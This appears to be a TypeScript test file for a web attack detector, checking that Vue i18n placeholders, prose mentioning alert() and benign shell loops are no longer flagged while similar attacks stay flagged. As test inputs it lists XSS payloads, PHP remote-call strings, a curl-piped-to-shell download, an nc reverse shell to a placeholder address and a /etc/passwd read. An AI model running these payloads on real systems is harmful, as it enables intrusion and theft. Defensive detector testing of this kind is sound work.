/**
 * False positives of the fifteenth session (docs/detection.md, "False positives noticed this
 * session (branch i18-fp15)"): a front-end template's i18n placeholder (`{{ $t('hello') }}`) read
 * as a PHP call through a variable, prose naming a script function (`use alert() for debugging`)
 * read as a call, and a shell loop shown as text whose body runs a program on the loop's items
 * (`for f in *.log; do gzip "$f"; done`). Each class beside the attacks that look like it and must
 * stay flagged.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import type { AttackClass } from '../../../node/records/types';
import { classesAt, exampleTable, RELAXED } from './helpers';

const detector = new AttackDetector(RELAXED);

// Vue i18n's helpers in a mustache placeholder: quiet as rce. PHP calls through a variable, with or
// without a placeholder around them, and an i18n helper given a superglobal: still rce.
exampleTable(
  detector,
  [
    ['rce', "{{ $f('system') }}"],
    ['rce', "$t('id')"],
    ['rce', "{{ $t('hello') }} $f('id')"],
    ['rce', "{{ $t($_GET['x']) }}"],
    ['rce', "{{ $t('a') }}${'a'}(11)"],
    ['rce', "$_GET['a']($_GET['b'])"],
  ],
  ["{{ $t('hello') }}", "<p>{{ $tc('cart.items', 2) }}</p>", '<span>{{ $t("nav.home") }}</span>', "{{ $d(date, 'short') }}"],
  ['q', 'json', 'form'],
  ['rce'],
);

// A script function named in prose (a word before it on the same line, which JavaScript cannot
// parse): quiet as xss. The same call after an operator, a keyword that takes an expression, a
// quote break-out or in a handler: still xss.
exampleTable(
  detector,
  [
    ['xss', 'alert()'],
    ['xss', "';alert(1)//"],
    ['xss', 'x" onmouseover=alert(1) "'],
    ['xss', 'javascript:void alert(1)'],
    ['xss', 'return eval(name)'],
    ['xss', 'a(alert)(1)'],
    ['xss', 'alert(document.cookie)'],
    ['xss', 'use alert() <script>alert(1)</script>'],
  ],
  ['use alert() for debugging', 'avoid eval() in production code', 'never call prompt() on page load'],
  ['q', 'json', 'form'],
  ['xss'],
);

// A loop shown whole whose body runs a program on the loop's items: quiet as rce. A probe word,
// a URL fetched and piped to a shell, an address, a system file, a bin path or a spelled name in
// the body, or the same program after a separator outside any loop: still rce.
exampleTable(
  detector,
  [
    ['rce', 'for i in 1 2; do id; done'],
    ['rce', 'for i in 1; do whoami; done'],
    ['rce', 'for i in 1; do curl http://dl.example.net/a.sh | sh; done'],
    ['rce', 'for i in 1; do nc -e /bin/sh 203.0.113.9 4444; done'],
    ['rce', 'for i in 1; do cat /etc/passwd; done'],
    ['rce', 'for i in 1; do /bin/sh; done'],
    ['rce', 'for i in 1; do w\\ho\\am\\i; done'],
    ['rce', 'for i in 1; do echo aWQ= | base64 -d | sh; done'],
    ['rce', ';gzip "$f"'],
  ],
  ['for f in *.log; do gzip "$f"; done', 'for f in *.gz; do gunzip "$f"; done', 'for f in *.txt; do base64 "$f"; done'],
  ['q', 'json', 'form'],
  ['rce'],
);

// Seen and left flagged (docs/detection.md, branch i18-fp15): PHP reads `${ "a" }` as the variable
// variable CRS's tests send (`${'ff'}`), and a `<link>` element with a URL loads a resource (one whose
// only link is a template placeholder is template source since branch i18-rce5, rce-fifth.test.ts).
test('left flagged: a quoted variable variable, a link element', () => {
  const found = (v: string): AttackClass[] => classesAt(detector, 'q', v);
  assert.ok(found('${ "a" }').includes('rce'));
  assert.ok(found('<link href="/app.css">').includes('xss'));
});
